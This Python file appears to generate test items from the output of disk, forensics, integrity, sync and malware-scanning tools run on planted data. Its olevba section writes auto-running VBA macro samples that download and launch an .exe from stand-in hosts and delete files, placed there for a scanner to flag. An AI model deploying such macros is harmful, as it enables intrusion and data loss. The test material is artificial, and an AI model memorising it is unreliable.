"""Disks, arrays, doubles, traces of deleted files and malware, told by tools that nobody tunes on; what is found was planted."""

import json
import os
import re
import shutil
from collections.abc import Iterator
from functools import partial

from items import Fact, Item
from reports import directory_facts, said_in
from shop import Shop

from recipes.held_suites import write
from recipes.ninth_tools import each, pairs, tool_of

DISK, ARRAY, INTEGRITY, FORENSICS, DOUBLES = (
    "disk layout",
    "disk array",
    "file integrity",
    "forensics",
    "duplicate files",
)
SYNC, MALWARE, FIRMWARE, PARCEL = "synchronisation", "malware scan", "firmware image", "file parcel"


def append(path: str, what: str) -> None:
    with open(path, "a", encoding="utf-8") as out:
        out.write(what)


def shelves(room: str, folder: str, count: int, step: int = 7) -> list[str]:
    """Files of recipes and bills, in folders by month; their paths below `room`."""
    paths = []
    for number in range(count):
        path = f"{folder}/month{number % 12:02}/bill_{number:03}.txt"
        write(os.path.join(room, path), f"bill {number}\n" * (number % step + 2))
        paths.append(path)
    return sorted(paths)


def spoil(path: str, at: int = 3) -> None:
    """Other bytes in the same place, length and time."""
    before = os.stat(path)
    with open(path, "r+b") as file:
        file.seek(at)
        file.write(b"\xff\xfe\x00")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))


def btrfs_run(name: str, shop: Shop) -> Iterator[Item]:
    """What btrfs prints of a file system's trees; the facts are planted: every name in it, the trees, and what its head says."""
    shop.install("btrfs", "btrfs-progs")
    room = shop.room(name)
    shelves(room, "tree", 40)
    os.symlink("../month03", os.path.join(room, "tree/month05/last"))
    shop.run(["mkfs.btrfs", "-q", "--rootdir", "tree", "-L", "bills", "disk.img"], room).check()
    text = shop.run(["btrfs", "inspect-internal", "dump-tree", "disk.img"], room).text
    facts = each(
        "name",
        [f"bill_{number:03}.txt" for number in range(40)] + [f"month{number:02}" for number in range(12)] + ["last"],
    )
    facts += each("message", dict.fromkeys(re.findall(r"^(?:\w+ tree|\w+ \w+ tree)(?= key)", text, re.MULTILINE)))
    facts += each("name", dict.fromkeys(re.findall(r"\b[A-Z]{3,}(?:_[A-Z]+)+\b", text)))
    facts += each("message", re.findall(r"^(?:total bytes|bytes used|uuid|fs uuid|chunk uuid) .*$", text, re.MULTILINE))
    yield Item(name, DISK, "text", "btrfs inspect-internal dump-tree disk.img", text, said_in(facts, text))


def sgdisk_run(name: str, shop: Shop) -> Iterator[Item]:
    """What sgdisk prints of partitions; the facts are planted: every partition's name, and those that are not like the others."""
    shop.install("sgdisk", "gdisk")
    room = shop.room(name)
    os.truncate(write(os.path.join(room, "disk.img"), ""), 4 << 30)
    orders = []
    for number in range(1, 121):
        size = "90M" if number == 66 else f"{8 + number % 3}M"
        kind = {14: "8200", 47: "ef00", 83: "fd00", 101: "8e00"}.get(number, "8300")
        orders += ["-n", f"{number}:0:+{size}", "-c", f"{number}:sack-{number}", "-t", f"{number}:{kind}"]
    shop.run(["sgdisk", *orders, "disk.img"], room).check()
    shown = [
        word for number in (1, 14, 15, 27, 33, 47, 50, 66, 72, 83, 84, 90, 101, 120) for word in ("-i", str(number))
    ]
    text = shop.run(["sgdisk", "-p", "disk.img"], room).text + shop.run(["sgdisk", *shown, "disk.img"], room).text
    text += shop.run(["sgdisk", "-v", "disk.img"], room).text
    facts = each("name", [f"sack-{number}" for number in range(1, 121)])
    facts += pairs(
        [("sack-14", "8200"), ("sack-47", "EF00"), ("sack-83", "FD00"), ("sack-101", "8E00"), ("sack-66", "90.0 MiB")]
    )
    facts += each(
        "message",
        re.findall(
            r"^(?:Disk .*|Sector size .*|Disk identifier .*|Partition table holds .*|Main partition .*|First usable .*|Partitions will be .*|Total free space .*|No problems found.*|Number +Start.*|Partition GUID code: .*|Partition unique GUID: .*)$",
            text,
            re.MULTILINE,
        ),
    )
    yield Item(name, DISK, "text", "sgdisk -p disk.img", text, said_in(facts, text))


def snapraid_run(name: str, shop: Shop) -> Iterator[Item]:
    """What `snapraid check` says of an array with silent damage; the facts are planted: files that were spoilt, lost, moved or added."""
    shop.install("snapraid")
    room = shop.room(name)
    paths = shelves(room, "one", 250, 600) + shelves(room, "two", 250, 600)
    for folder in ("parity", "content"):
        os.makedirs(os.path.join(room, folder))
    config = f"parity {room}/parity/p.parity\ncontent {room}/content/c.content\ndata d1 {room}/one/\ndata d2 {room}/two/\nblocksize 1\n"
    write(os.path.join(room, "raid.conf"), config)
    command = ["snapraid", "-c", "raid.conf", "--test-skip-device", "--test-skip-self"]
    shop.run([*command, "sync"], room).check()
    facts = []
    for number, path in enumerate(paths):
        where = os.path.join(room, path)
        if number % 29 == 7:
            spoil(where)
            facts += each("message", [path.split("/", 1)[1]])
        if number % 41 == 20:
            os.remove(where)
            facts += each("message", [path.split("/", 1)[1]])
    for number in range(9):
        write(os.path.join(room, "one", f"late/receipt{number}.txt"), "late\n" * 40)
        facts += each("message", [f"late/receipt{number}.txt"])
    text = shop.run([*command, "-v", "diff"], room).text + shop.run([*command, "-v", "check"], room).text
    text = text.replace(room, "/srv/array")
    facts += each(
        "message",
        re.findall(
            r"^ +\d+ (?:equal|added|removed|updated|moved|copied|restored|errors|unrecoverable errors|recoverable errors|recovered errors)$",
            text,
            re.MULTILINE,
        ),
    )
    facts += each(
        "message",
        dict.fromkeys(
            one[:60]
            for one in re.findall(r"^(?:WARNING!|DANGER!|Everything OK|There are differences).*$", text, re.MULTILINE)
        ),
    )
    yield Item(name, ARRAY, "text", "snapraid -v check", text, said_in(facts, text))


def par2_run(name: str, shop: Shop) -> Iterator[Item]:
    """What `par2 verify` says of files; the facts are planted: every one that is damaged, missing or under another name."""
    shop.install("par2")
    room = shop.room(name)
    paths = shelves(room, "set", 260, 40)
    for path in paths:
        os.rename(os.path.join(room, path), os.path.join(room, os.path.basename(path)))
    files = sorted(map(os.path.basename, paths))
    shop.run(["par2", "create", "-q", "-q", "-r20", "-s400", "set.par2", *files], room).check()
    facts = []
    for number, path in enumerate(files):
        if number % 31 == 5:
            spoil(os.path.join(room, path), 9)
            facts += [Fact("odd", (), (path, "damaged"))]
        elif number % 47 == 11:
            os.remove(os.path.join(room, path))
            facts += [Fact("odd", (), (path, "missing"))]
        elif number % 53 == 17:
            os.rename(os.path.join(room, path), os.path.join(room, f"{path}.bak"))
            facts += [Fact("odd", (), (path, f"{path}.bak"))]
    text = plain_progress(
        shop.run(
            ["par2", "verify", "-v", "set.par2", *files, *[one for one in os.listdir(room) if one.endswith(".bak")]],
            room,
        ).text
    ).replace(room, "/srv")
    facts += each(
        "message",
        re.findall(
            r"^(?:There are .*|The (?:block size|total size|number of).*|\d+ file\(s\) .*|You have \d+ .*|Repair is .*|None of the .*|\d+ recovery blocks .*)$",
            text,
            re.MULTILINE,
        ),
    )
    yield Item(name, ARRAY, "text", "par2 verify -v set.par2", text, said_in(facts, text))


def plain_progress(text: str) -> str:
    """The text as a file would have it that shows no progress: only the last state of each line."""
    return "\n".join(line.rstrip("\r").rsplit("\r", 1)[-1] for line in text.split("\n"))


def fls_run(name: str, shop: Shop) -> Iterator[Item]:
    """What fls lists of an image; the facts are planted: every deleted file, every directory, and what is not a plain file."""
    shop.install("fls", "sleuthkit")
    shop.need("mke2fs", "debugfs", package="e2fsprogs")
    room = shop.room(name)
    paths = shelves(room, "tree", 420)
    os.symlink("month01", os.path.join(room, "tree/newest"))
    shop.run(["mke2fs", "-q", "-t", "ext2", "-d", "tree", "disk.img", "12M"], room).check()
    gone = [path.split("/", 1)[1] for number, path in enumerate(paths) if number % 19 == 6]
    write(os.path.join(room, "orders"), "".join(f"rm /{path}\n" for path in gone))
    shop.run(["debugfs", "-w", "-f", "orders", "disk.img"], room).check()
    text = shop.run(["fls", "-r", "-p", "-f", "ext2", "disk.img"], room).text
    facts = [Fact("odd", (), (path, "*")) for path in gone]
    facts += each("path", [f"month{number:02}" for number in range(12)] + ["lost+found", "newest", "$OrphanFiles"])
    facts += each("message", re.findall(r"^(?:l/l|V/V) .*$", text, re.MULTILINE))
    yield Item(name, FORENSICS, "text", "fls -r -p disk.img", text, said_in(facts, text))


def aide_run(name: str, shop: Shop) -> Iterator[Item]:
    """What `aide --check` reports; the facts are planted: every file that was changed, added or removed, and how it was."""
    shop.install("aide")
    room = shop.room(name)
    paths = shelves(room, "watched", 480)
    write(
        os.path.join(room, "aide.conf"),
        f"database_in=file:{room}/old.db\ndatabase_out=file:{room}/new.db\nreport_url=stdout\nBILLS = p+u+g+s+m+sha256\n{room}/watched BILLS\n",
    )
    shop.run(["aide", "--init", "--config", "aide.conf"], room)
    shutil.move(os.path.join(room, "new.db"), os.path.join(room, "old.db"))
    facts = []
    for number, path in enumerate(paths):
        where = os.path.join(room, path)
        if number % 17 == 4:
            append(where, "paid twice\n")
        elif number % 23 == 9:
            os.chmod(where, 0o4755)
        elif number % 29 == 13:
            os.remove(where)
        else:
            continue
        facts += each("message", [f"/srv/{path}"])
    for number in range(8):
        write(os.path.join(room, f"watched/month0{number}/.hidden{number}"), "#!/bin/sh\n")
        facts += each("message", [f"/srv/watched/month0{number}/.hidden{number}"])
    text = shop.run(["aide", "--check", "--config", "aide.conf"], room).text.replace(room, "/srv")
    facts += each("message", [f"Directory: /srv/watched/month{number:02}" for number in range(12)])
    facts += each(
        "message",
        re.findall(
            r"^(?: +(?:Total number of entries|Added entries|Removed entries|Changed entries):.*|AIDE found .*|Summary:|(?:Added|Removed|Changed) entries:|Detailed information .*)$",
            text,
            re.MULTILINE,
        ),
    )
    facts += each("message", dict.fromkeys(re.findall(r"^ (Size|Perm|Mtime|SHA256) +:", text, re.MULTILINE)))
    yield Item(name, INTEGRITY, "text", "aide --check", text, said_in(facts, text))


def bagit_run(name: str, shop: Shop) -> Iterator[Item]:
    """What bagit says of a parcel that it validates; the facts are planted: files that were spoilt, lost, or that nobody listed."""
    room = shop.room(name)
    tool = tool_of(shop, "bagit.py")
    paths = shelves(room, "bag", 160)
    shop.run([tool, "--quiet", "--contact-name", "Oda Lind", "bag"], room).check()
    facts = []
    for number, path in enumerate(paths):
        inner = "data/" + path.split("/", 1)[1]
        where = os.path.join(room, "bag", inner)
        if number % 8 == 3:
            append(where, "torn\n")
            facts += [Fact("path", (inner,))]
    told = os.path.join(room, "bag", "bag-info.txt")
    with open(told, encoding="utf-8") as file:
        kept = [line for line in file if not line.startswith("Payload-Oxum")]
    write(told, "".join(kept) + "External-Description: second printing\n")
    text = shop.run([tool, "--validate", "bag"], room).text
    text = re.sub(r"^\d{4}-\d\d-\d\d ", "2026-11-18 ", text, flags=re.MULTILINE).replace(room, "/srv")
    facts += each(
        "message",
        [
            "sha256 validation failed",
            "sha512 validation failed",
            "bag-info.txt",
            "bag is invalid",
            "Verifying checksum for file",
        ],
    )
    yield Item(name, PARCEL, "text", "bagit.py --validate bag", text, said_in(facts, text))


def torrent_run(name: str, shop: Shop) -> Iterator[Item]:
    """What transmission-show tells of a parcel; the facts are its trackers, its folders and the largest of its files."""
    shop.install("transmission-show", "transmission-cli")
    room = shop.room(name)
    shelves(room, "archive", 360, 90)
    for number in range(5):
        write(os.path.join(room, f"archive/plates/plate{number}.raw"), "x" * (200_000 + number * 90_000))
    trackers = [
        word for number in range(6) for word in ("-t", f"http://tracker{number}.mill.example:{6960 + number}/announce")
    ]
    shop.run(
        ["transmission-create", "-o", "archive.torrent", "-c", "second printing", *trackers, "archive"], room
    ).check()
    text = shop.run(["transmission-show", "archive.torrent"], room).text
    facts = each("message", [f"tracker{number}.mill.example:{6960 + number}" for number in range(6)])
    facts += each("path", [f"archive/month{number:02}" for number in range(12)] + ["archive/plates"])
    facts += each("message", [f"archive/plates/plate{number}.raw" for number in range(5)])
    facts += each(
        "message",
        re.findall(
            r"^ +(?:Name|Hash|Created by|Comment|Piece Count|Piece Size|Total Size|Privacy): .*$", text, re.MULTILINE
        ),
    )
    facts += each("message", re.findall(r"plate\d\.raw \([\d.]+ kB\)", text))
    yield Item(name, PARCEL, "text", "transmission-show archive.torrent", text, said_in(facts, text))


def rmlint_run(name: str, shop: Shop) -> Iterator[Item]:
    """What rmlint prints of a tree with doubles; the facts are those of its JSON: every double, empty file, bad link."""
    shop.install("rmlint")
    room = shop.room(name)
    paths = shelves(room, "tree", 400, 500)
    for number in range(0, 400, 3):
        copy = f"tree/copies/set{number % 5}/copy_of_{number:03}.txt"
        os.makedirs(os.path.dirname(os.path.join(room, copy)), exist_ok=True)
        shutil.copy(os.path.join(room, paths[number]), os.path.join(room, copy))
    for number in range(7):
        write(os.path.join(room, f"tree/empty/nothing{number}.log"), "")
        os.symlink(f"gone{number}", os.path.join(room, f"tree/month0{number}/dangling{number}"))
        os.makedirs(os.path.join(room, f"tree/bare/hollow{number}"))
    text = shop.run(
        [
            "rmlint",
            "-T",
            "df,ef,ed,bl",
            "-g",
            "-o",
            "pretty:stdout",
            "-o",
            "summary:stdout",
            "-o",
            "json:found.json",
            "tree",
        ],
        room,
    ).text
    text = re.sub(r"\x1b\[[\d;]*[mK]", "", plain_progress(text)).replace(room, "/srv")
    with open(os.path.join(room, "found.json"), encoding="utf-8") as file:
        rows = [row for row in json.load(file) if "path" in row]
    facts = each("path", [row["path"].replace(room, "/srv") for row in rows if not row.get("is_original")])
    facts += directory_facts("/", {row["path"].replace(room + "/", "srv/") for row in rows})
    facts += each("message", re.findall(r"^(?:# .*|==> .*)$", text, re.MULTILINE))
    yield Item(name, DOUBLES, "text", "rmlint -T df,ef,ed,bl tree", text, said_in(facts, text))


def unison_run(name: str, shop: Shop) -> Iterator[Item]:
    """What unison says as it brings two folders together; the facts are planted: what changed on either side, and on both."""
    shop.install("unison")
    room = shop.room(name)
    paths = shelves(room, "left", 220)
    shutil.copytree(os.path.join(room, "left"), os.path.join(room, "right"))
    env = {"UNISON": f"{room}/state", "HOME": room}
    command = ["unison", "left", "right", "-batch", "-ui", "text", "-dumbtty", "-perms", "0"]
    shop.run(command, room, env=env)
    facts = []
    for number, path in enumerate(paths):
        short = path.split("/", 1)[1]
        left, right = os.path.join(room, "left", short), os.path.join(room, "right", short)
        if number % 11 == 3:
            append(left, "seen by left\n")
        if number % 13 == 5:
            append(right, "seen by right\n")
        if number % 31 == 12:
            os.remove(right)
        if number % 37 == 14:
            os.rename(left, f"{left}.old")
            facts += each("path", [f"{short}.old"])
        if number % 11 == 3 or number % 13 == 5 or number % 31 == 12 or number % 37 == 14:
            facts += each("path", [short])
    text = shop.run([*command, "-log=false"], room, env=env).text.replace(room, "/srv")
    facts += each(
        "message",
        re.findall(r"^(?:Synchronization .*|  skipped: .*|\d+ items? .*|.*transferred.*failed.*)$", text, re.MULTILINE),
    )
    yield Item(name, SYNC, "text", "unison left right -batch", text, said_in(facts, text))


def clam_run(name: str, shop: Shop) -> Iterator[Item]:
    """What clamscan says of files, by signatures of our own; the facts are planted: every file that has one, and its name."""
    shop.install("clamscan", "clamav")
    room = shop.room(name)
    paths = shelves(room, "inbox", 420)
    marks = {"Mill.Worm.Rye": "d34db33f", "Mill.Trojan.Bun": "0ff1ce0ff1ce", "Mill.Dropper.Oven": "c0ffee11dead"}
    write(
        os.path.join(room, "own.ndb"),
        "".join(f"{one}:0:*:{'6d61726b' + code.encode().hex()}\n" for one, code in marks.items()),
    )
    facts = []
    for number, path in enumerate(paths):
        if number % 23 == 8:
            title, code = list(marks.items())[number % 3]
            append(os.path.join(room, path), f"mark{code}\n")
            facts += pairs([(path, f"{title}.UNOFFICIAL FOUND")])
        if number % 97 == 50:
            write(os.path.join(room, path), "")
            facts += pairs([(path, "Empty file")])
    text = shop.run(["clamscan", "-d", "own.ndb", "-r", "inbox"], room).text.replace(room, "/srv")
    facts += each(
        "message",
        re.findall(
            r"^(?:Known viruses|Engine version|Scanned directories|Scanned files|Infected files|Data scanned|Data read): .*$",
            text,
            re.MULTILINE,
        ),
    )
    yield Item(name, MALWARE, "text", "clamscan -r inbox", text, said_in(facts, text))


MACRO = """Attribute VB_Name = "Sheet{0}"
Sub AutoOpen()
    Dim target As String
    target = "http://depot{0}.mill.example/update{0}.exe"
    Set shellObject = CreateObject("WScript.Shell")
    {1}
    key = Chr(77) & Chr(105) & Chr(108) & Chr(108)
    Environ("TEMP")
End Sub
"""
ACTS = ('shellObject.Run "cmd /c start " & target', 'Open "C:\\bills.bin" For Binary As #1', "URLDownloadToFile 0, target, path, 0, 0", 'Kill "C:\\ledger.xls"', 'x = "powershell -enc SGVsbG8gTWlsbGVyIGFuZCBCYWtlcg=="', "Call VirtualAlloc(0, 4096, 4096, 64)")  # fmt: skip


def olevba_run(name: str, shop: Shop) -> Iterator[Item]:
    """What olevba says of macros; the facts are those of its JSON: every keyword that it finds suspicious, by file."""
    room = shop.room(name)
    files = []
    for number in range(14):
        body = (
            MACRO.format(number, ACTS[number % 6])
            if number % 5
            else f'Attribute VB_Name = "Plain{number}"\nSub Total()\n    Range("A{number}").Value = {number}\nEnd Sub\n'
        )
        files.append(os.path.basename(write(os.path.join(room, f"sheet{number}.bas"), body)))
    text = shop.run([tool_of(shop, "olevba"), "-d", *files], room).text
    facts = each("path", files)
    for path in files:
        about = json.loads(shop.run([tool_of(shop, "olevba"), "-j", path], room, apart=True).text)
        for row in [one for part in about for one in part.get("analysis") or ()]:
            facts += pairs([(row["type"], row["keyword"])])
    facts += each("message", [f"depot{number}.mill.example" for number in range(14) if number % 5])
    facts += each("message", [act[:24] for act in ACTS])
    yield Item(name, MALWARE, "text", "olevba -d *.bas", text, said_in(facts, text))


PIECES = r"""import gzip, io, random, struct, zipfile
random.seed(7)
out = bytearray()
for n in range(130):
    out.extend(bytes(random.randrange(1, 250) | 1 for _ in range(300)))
    packed = io.BytesIO()
    if n % 4 == 0:
        with zipfile.ZipFile(packed, "w") as file: file.writestr("loaf%d.txt" % n, b"bread" * 90)
    elif n % 4 == 1:
        with gzip.GzipFile("oven%d.log" % n, "wb", 9, packed, n * 8640000) as file: file.write(b"hot" * 500)
    elif n % 8 == 2:
        packed.write(b"-----BEGIN CERTIFICATE-----\nMIIB" + b"A" * 60 + b"\n-----END CERTIFICATE-----\n")
    elif n % 4 == 2:
        packed.write(b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 40 + n, 30, 8, 2, 0, 0, 0))
    else:
        packed.write(b"Copyright (c) 20%02d Mill Street Ovens " % (n % 100))
    out.extend(packed.getvalue())
open("oven.bin", "wb").write(out)
"""


def binwalk_run(name: str, shop: Shop) -> Iterator[Item]:
    """What binwalk finds in an image; the facts are planted: every piece, and where it begins."""
    shop.install("binwalk")
    room = shop.room(name)
    shop.run(["python3", "-c", PIECES], room).check()
    text = shop.run(["binwalk", "oven.bin", "--log=found.csv", "--csv"], room, env={"HOME": room}).text
    facts = each(
        "message",
        [f"loaf{n}.txt" for n in range(0, 130, 4)]
        + [f"oven{n}.log" for n in range(1, 130, 4)]
        + [f"Copyright (c) 20{n:02}" for n in range(3, 100, 4)],
    )
    facts += each("message", [f"{40 + n} x 30" for n in range(6, 130, 8)])
    with open(os.path.join(room, "found.csv"), encoding="utf-8", errors="replace") as file:
        rows = [line.split(",", 2) for line in file if line[:1].isdigit()]
    facts += pairs((row[0], row[2].strip('" \n').split(",")[0][:24].strip()) for row in rows)
    yield Item(name, FIRMWARE, "text", "binwalk oven.bin", text, said_in(facts, text))


RECIPES = {
    "btrfs-bills": partial(btrfs_run, "btrfs-bills"),
    "sgdisk-sacks": partial(sgdisk_run, "sgdisk-sacks"),
    "snapraid-bills": partial(snapraid_run, "snapraid-bills"),
    "par2-bills": partial(par2_run, "par2-bills"),
    "fls-bills": partial(fls_run, "fls-bills"),
    "aide-bills": partial(aide_run, "aide-bills"),
    "bagit-bills": partial(bagit_run, "bagit-bills"),
    "transmission-show-archive": partial(torrent_run, "transmission-show-archive"),
    "rmlint-bills": partial(rmlint_run, "rmlint-bills"),
    "unison-bills": partial(unison_run, "unison-bills"),
    "clamscan-inbox": partial(clam_run, "clamscan-inbox"),
    "olevba-sheets": partial(olevba_run, "olevba-sheets"),
    "binwalk-oven": partial(binwalk_run, "binwalk-oven"),
}
